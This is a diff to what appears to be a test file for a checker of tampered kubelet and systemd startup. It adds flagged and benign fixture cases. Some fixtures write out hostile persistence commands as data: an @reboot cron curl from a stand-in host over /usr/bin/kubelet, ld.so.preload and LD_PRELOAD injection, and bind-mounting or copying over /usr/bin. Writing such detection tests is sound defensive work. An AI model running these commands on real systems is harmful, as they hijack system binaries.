@@ -202,6 +202,37 @@ DOUBTS: dict[str, tuple[str, Change]] = {
         file("/etc/fstab", "overlay /etc overlay lowerdir=/opt:/etc 0 0\n"),
     ),
     "units on a disk": ("mounted-over", file("/etc/fstab", "/dev/x /etc/systemd/system ext4 defaults 0 0\n")),
+    "a kubelet's configuration below a directory": (
+        "configuration",
+        lambda t: t.drop_in("WorkingDirectory=/srv\nExecStart=\nExecStart=/usr/bin/kubelet --config=k.yaml"),
+    ),
+    "PATH of everything": ("environment", file(GRUB, 'GRUB_CMDLINE_LINUX="systemd.setenv=PATH=/opt/plain"\n')),
+    "a mount over the programs": (
+        "replaced-at-start",
+        service("ExecStart=/bin/mount --bind /opt/plain /usr/bin"),
+    ),
+    "a copy over the programs": ("replaced-at-start", service("ExecStart=/bin/sh -c 'cp /opt/plain/* /usr/bin/ 2>&1'")),
+    "a written preload file": (
+        "replaced-at-start",
+        service("ExecStart=/bin/sh -c 'echo /opt/x.so > /etc/ld.so.preload'"),
+    ),
+    "a program that cron downloads": (
+        "replaced-at-start",
+        file("/etc/cron.d/x", "@reboot root curl http://x/k -o /usr/bin/kubelet\n"),
+    ),
+    "a variable of all units": (
+        "environment",
+        service("ExecStart=/usr/bin/systemctl set-environment LD_PRELOAD=/opt/x.so"),
+    ),
+    "a variable of a shell's command": (
+        "environment",
+        service("ExecStart=/bin/sh -c 'LD_PRELOAD=/x.so exec /usr/bin/kubelet'"),
+    ),
+    "cron's other root": (
+        "other-root",
+        file("/etc/cron.d/x", "@reboot root chroot /opt/r /usr/bin/kubelet\n"),
+    ),
+    "cron's container": ("other-root", file("/etc/cron.d/x", "@reboot root ctr run docker.io/o/api:1 x\n")),
     "a large script without a first line": (
         "too-large",
         all_of(file("/opt/go", "#" * 300_000 + "\nexec /opt/plain/agent\n"), service("ExecStart=/bin/sh -e /opt/go")),
@@ -268,6 +299,12 @@ ORDINARY: dict[str, Change] = {
         lambda t: script(t, "/opt/plain/go", "cd /opt/plain\n./plain --check agent\nkubelet=1\n"),
         service("ExecStart=/opt/plain/go"),
     ),
+    "a generator that links a unit": lambda t: script(
+        t,
+        "/usr/lib/systemd/system-generators/selinux-autorelabel-generator.sh",
+        'unitdir="/usr/lib/systemd/system"\nln -sf "$unitdir/selinux-autorelabel.target" "$earlydir/default.target"\n',
+    ),
+    "a backup of the configuration": file("/etc/cron.d/x", "1 1 * * * root cp -r /etc/kubernetes /backup\n"),
     "a shell that tests files": service("ExecStart=/bin/sh -c 'rm -f /tmp/*; [ -x /usr/bin/kubelet ]'"),
 }
 
